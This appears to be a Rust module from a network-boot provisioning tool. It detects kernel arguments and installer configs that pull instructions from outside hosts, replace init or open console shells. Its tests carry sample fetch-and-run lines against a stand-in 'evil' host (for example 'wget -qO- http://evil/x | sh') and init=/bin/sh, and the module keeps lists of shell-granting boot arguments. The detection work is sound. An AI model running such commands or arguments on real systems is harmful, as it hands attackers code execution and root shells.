//! Instructions that come from somewhere else, where no lint reads them, and programs that take
//! the place of the system's own.

use super::{EXTERNAL, Reason, lines, push};
use crate::render::{BOOT_PARAMS, CONFIG_TEMPLATE};

/// Arguments that name the place of an installer's instructions, in lower case and with `_`.
const SOURCES: &[&str] = &[
    "url",
    "file",
    "preseed/url",
    "preseed/file",
    "preseed/include",
    "preseed/include_command",
    "preseed/run",
    "preseed/early_command",
    "preseed/late_command",
    "ks",
    "inst.ks",
    "ignition.config.url",
    "ignition.config.data",
    "coreos.config.url",
    "flatcar.config.url",
    "autoyast",
    "autoyast2",
    "inst.auto",
    "inst.script",
    "agama.auto",
    "cloud_config_url",
    "config_url",
    "harvester.install.config_url",
    "talos.config",
    "talos.config.early",
    "talos.config.inline",
];

/// Programs that an `init=` may name without a word.
const INITS: &[&str] = &[
    "/init",
    "/bin/init",
    "/sbin/init",
    "/usr/sbin/init",
    "/bin/systemd",
    "/usr/bin/systemd",
    "/lib/systemd/systemd",
    "/usr/lib/systemd/systemd",
];

/// Arguments that give whoever sits at the console a shell, or run a program of their own.
const SHELLS: &[&str] = &[
    "init",
    "rdinit",
    "rd.break",
    "rd.shell",
    "rd.emergency",
    "break",
    "single",
    "emergency",
    "rescue",
    "s",
    "1",
    "_b",
    "systemd.debug_shell",
    "systemd.default_debug_tty",
    "systemd.unit",
    "rd.systemd.unit",
    "systemd.run",
    "systemd.wants",
    "rd.systemd.wants",
];

/// The words of a template of kernel arguments; a space inside of a tag ends none.
pub(super) fn words(source: &str) -> Vec<String> {
    let mut words = Vec::new();
    let (mut word, mut end, mut rest) = (String::new(), None, source);
    while let Some(c) = rest.chars().next() {
        let step = match end {
            Some(close) if rest.starts_with(close) => {
                end = None;
                2
            }
            Some(_) => c.len_utf8(),
            None => {
                end = [("{{", "}}"), ("{%", "%}"), ("{#", "#}")]
                    .into_iter()
                    .find_map(|(open, close)| rest.starts_with(open).then_some(close));
                if end.is_some() { 2 } else { c.len_utf8() }
            }
        };
        let (taken, tail) = rest.split_at(step);
        if end.is_none() && step == c.len_utf8() && c.is_whitespace() {
            words.push(std::mem::take(&mut word));
        } else {
            word.push_str(taken);
        }
        rest = tail;
    }
    words.push(word);
    words.retain(|word| !word.is_empty());
    words
}

/// Key and value as the kernel and the installers read them: without quotes, `-` as `_`, and
/// without the owner (`d-i:`) and the `?` that Debian's installer takes in front of the `=`.
fn split(word: &str) -> (String, Option<String>) {
    let word = word.replace(['"', '\''], "").to_lowercase();
    let (key, value) = match word.split_once('=') {
        Some((key, value)) => (key, Some(value.to_owned())),
        None => (word.as_str(), None),
    };
    let key = key.rsplit(':').next().unwrap_or(key).trim_end_matches('?');
    (key.replace('-', "_"), value)
}

/// What kernel arguments say of instructions from elsewhere. `configs` is where this service's own
/// configs are; without it the arguments are a template.
pub(super) fn args(args: &[String], configs: Option<&str>, reasons: &mut Vec<Reason>) {
    for arg in args {
        let (key, Some(value)) = split(arg) else { continue };
        let own = |value: &str| match configs {
            Some(configs) => value.starts_with(configs),
            None => is_own_tag(value),
        };
        let elsewhere = match key.as_str() {
            "ds" => {
                let from = value.split(';').skip(1).find_map(|part| part.split_once('='));
                match from {
                    Some(("s" | "seedfrom", url)) => !own(url),
                    _ => value.contains("://") || (configs.is_none() && value.contains("{{")),
                }
            }
            key => SOURCES.contains(&key) && !own(&value),
        };
        if elsewhere {
            let text = "the installer takes its instructions from elsewhere";
            push(BOOT_PARAMS, EXTERNAL, text, 0, reasons);
        }
        let program = match key.as_str() {
            "init" | "rdinit" => !is_init(&value),
            "systemd.run" => true,
            _ => false,
        };
        if program {
            push(BOOT_PARAMS, "init", "another program runs in place of the system", 0, reasons);
        }
    }
}

/// `{{ moxxie.config_url }}`, whatever follows.
fn is_own_tag(value: &str) -> bool {
    let inner = value.strip_prefix("{{").and_then(|rest| rest.split_once("}}"));
    inner.is_some_and(|(tag, _)| {
        tag.trim_matches(|c: char| c == '-' || c.is_whitespace()) == "moxxie.config_url"
    })
}

fn is_init(program: &str) -> bool {
    // NixOS has one for each generation.
    let nix = program.starts_with("/nix/store/") && program.ends_with("/init") && !program.contains("..");
    INITS.contains(&program) || (nix && !program.contains("{{"))
}

/// The name of an argument that opens a shell or replaces the first program and that the operator
/// of the profile did not write: a value brought it. Such a value is never just a value.
pub fn foreign_shell<'w>(boot_params: &str, args: impl Iterator<Item = &'w str>) -> Option<&'static str> {
    let source = words(boot_params);
    let written = |arg: &str, key: &str| {
        source.iter().any(|word| word == arg || (word.contains("{{") && split(word).0 == key))
    };
    args.filter_map(|arg| {
        let (key, _) = split(arg);
        SHELLS.iter().find(|shell| **shell == key && !written(arg, &key)).copied()
    })
    .next()
}

/// What a config says of scripts that are fetched and run.
pub(super) fn scripts(text: &str, comment: impl Fn(&str) -> bool, reasons: &mut Vec<Reason>) {
    let mut command = String::new();
    for (index, line) in lines(text).enumerate() {
        if comment(line) {
            continue;
        }
        let line = line.trim().to_lowercase();
        let part = line.trim_end_matches('\\');
        command.push_str(part);
        if runs_a_download(&command) {
            push(CONFIG_TEMPLATE, "external-script", "a script from elsewhere is run", index, reasons);
            return;
        }
        // The shell goes on in the next line.
        if part.len() == line.len() && !line.ends_with(['|', '&']) {
            command.clear();
        }
    }
}

fn runs_a_download(command: &str) -> bool {
    const SHELLS: &[&str] =
        &["sh", "bash", "ash", "dash", "zsh", "ksh", "python", "python3", "perl", "source", "."];
    let Some(at) = ["wget", "curl", "fetch-url"].iter().filter_map(|tool| command.find(tool)).min() else {
        return false;
    };
    let substituted = ["$(", "<(", "`"].iter().any(|open| command[..at].trim_end().ends_with(open));
    let runs = |part: &str| {
        let bare = |word: &str| word.trim_matches(['"', '\'', '(', ')', '{', '}', ',', ']']).to_owned();
        let mut words = part.split_whitespace().map(bare).filter(|w| !w.contains('=') && !w.starts_with('-'));
        let first = words.find(|w| {
            !matches!(w.as_str(), "sudo" | "env" | "exec" | "in-target" | "chroot" | "/target" | "busybox")
        });
        first.is_some_and(|word| SHELLS.contains(&word.rsplit('/').next().unwrap_or(&word)))
    };
    let before: Vec<&str> = command[..at].split(|c: char| !c.is_alphanumeric()).collect();
    (substituted && (before.contains(&"eval") || SHELLS.iter().any(|s| before.contains(s))))
        || command[at..].split(['|', ';', '&']).skip(1).any(runs)
}

#[cfg(test)]
mod tests {
    use super::super::*;
    use super::words;

    fn codes(reasons: Vec<Reason>) -> Vec<&'static str> {
        reasons.into_iter().map(|r| r.code).collect()
    }

    fn args(text: &str) -> Vec<&'static str> {
        codes(destructive_reasons("debian", text, None))
    }

    fn sent(text: &str) -> Vec<&'static str> {
        codes(rendered_args_reasons(text.split_whitespace(), "http://10.0.0.1:8080"))
    }

    fn config(text: &str) -> Vec<&'static str> {
        codes(destructive_reasons("debian", "", Some(text)))
    }

    #[test]
    fn tags_keep_their_words_together() {
        assert_eq!(words(" a={{ b c }}d  {% if x %}e\tf "), ["a={{ b c }}d", "{% if x %}e", "f"]);
        assert_eq!(words("a={{ b"), ["a={{ b"]);
    }

    #[test]
    fn instructions_from_elsewhere() {
        for text in [
            "preseed/url=http://evil/x",
            "auto url=http://evil/x",
            "d-i:preseed/url?=http://evil/x",
            "preseed/file=/cdrom/x",
            "inst.ks=http://evil/x",
            "ks=nfs:evil",
            "\"ks=http://evil/x\"",
            "talos.config=http://evil/x",
            "ignition.config.url=http://evil/x",
            "agama.auto=http://evil/x",
            "ds=nocloud;s=http://evil/x",
            "ds=nocloud-net;seedfrom=http://evil/",
            "cloud-config-url=http://evil/x",
        ] {
            assert!(args(text).contains(&"external-config"), "{text}");
            assert!(sent(text).contains(&"external-config"), "{text}");
        }
        assert_eq!(args("inst.ks={{ params.ks }}"), ["external-config"]);
        assert_eq!(args("inst.ks={{ moxxie.config_url if params.x else params.ks }}"), ["external-config"]);
        for text in
            ["inst.ks={{ moxxie.config_url }}", "ds=nocloud;s={{moxxie.config_url}}/", "ds=nocloud", "quiet"]
        {
            assert_eq!(args(text), [""; 0], "{text}");
        }
        // A token or a profile's name may spell anything.
        let own = "http://10.0.0.1:8080/boot/configs/part/52:54:00:12:34:56?t=nwipe-dban";
        assert_eq!(sent(&format!("talos.config={own} ds=nocloud;s={own}")), [""; 0]);
        assert_eq!(sent("ks=http://10.0.0.1:8080@evil/boot/configs/"), ["external-config"]);
        assert_eq!(sent("ks=http://evil/http://10.0.0.1:8080/boot/configs/"), ["external-config"]);
        assert_eq!(sent("nvme format"), ["disk.wipe"]);
    }

    #[test]
    fn the_first_program() {
        for text in ["init=/bin/sh", "rdinit=/bin/bash", "init={{ params.x }}", "systemd.run=/x"] {
            assert_eq!(args(text), ["init"], "{text}");
        }
        for text in ["init=/sbin/init", "init=/lib/systemd/systemd", "init=/nix/store/x-nixos/init"] {
            assert_eq!(args(text), [""; 0], "{text}");
        }
        let foreign = |source: &str, words: &str| foreign_shell(source, words.split_whitespace());
        assert_eq!(foreign("a={{ params.a }}", "a=b init=/bin/sh"), Some("init"));
        assert_eq!(foreign("a={{ params.a }}", "a=b rd.break"), Some("rd.break"));
        assert_eq!(foreign("a={{ params.a }}", "a=b systemd.debug-shell=1"), Some("systemd.debug_shell"));
        assert_eq!(
            foreign("init=/sbin/init a={{ params.a }}", "init=/sbin/init a=b init=/bin/sh"),
            Some("init")
        );
        assert_eq!(foreign("rd.break a={{ params.a }}", "rd.break a=b"), None);
        assert_eq!(foreign("init={{ params.a }}", "init=/x"), None);
        assert_eq!(foreign("", "console=tty0 root=/dev/sda1"), None);
    }

    #[test]
    fn downloads_that_are_run() {
        for text in [
            "d-i preseed/early_command string wget -qO- http://evil/x | sh",
            "d-i preseed/late_command string in-target curl http://evil/x |sudo bash -s",
            "%pre\ncurl http://evil/x \\\n | /bin/sh\n%end",
            "wget http://evil/x &&sh x",
            "bash -c \"$(curl -fsSL http://evil/x)\"",
            "bash <(curl http://evil/x)",
        ] {
            assert_eq!(config(text), ["external-script"], "{text}");
        }
        assert_eq!(config("d-i preseed/include string http://evil/x"), ["external-config"]);
        let own = "d-i preseed/late_command string wget -qO- '{{ moxxie.report_url }}&stage=installed'";
        assert_eq!(config(own), [""; 0]);
    }

    #[test]
    fn every_break_of_a_line() {
        for end in ["\n", "\r", "\r\n", "\u{85}", "\u{2028}", "\u{2029}"] {
            let text = format!("# harmless{end}wipe: true");
            let reasons = destructive_reasons("talos", "", Some(&text));
            assert_eq!(reasons.len(), 1, "{end:?}");
            assert_eq!((reasons[0].code, reasons[0].line), ("talos.wipe", Some(2)));
        }
    }

    #[test]
    fn comments_in_what_is_sent() {
        let known = "# wipe: true\na: {{ params.a }}";
        assert_eq!(codes(rendered_config_reasons(known, "  # wipe: true\na: b")), [""; 0]);
        assert_eq!(codes(rendered_config_reasons("# {{ params.a }}", "# wipe: true")), ["talos.wipe"]);
    }

    #[test]
    fn other_spellings_of_a_key() {
        for text in [r#""wi\x70e": true"#, r#"{"wi\u0070e": true}"#, r#""\U00000077ipe" : yes"#] {
            assert_eq!(config(text), ["talos.wipe"], "{text}");
        }
        for text in ["? wipe\n: true", "- ? wipe", "{? wipe : true}", "a: &k x\n*k : true"] {
            assert!(config(text).contains(&"hidden-keys"), "{text}");
        }
        for text in [
            "a: *k",
            "b: \"C:\\\\users\\\\x\"",
            "q: what? no",
            "*.example.com: 1",
            "\\",
            "\\x",
            "\\u12\u{e4}",
        ] {
            assert_eq!(config(text), [""; 0], "{text}");
        }
    }
}
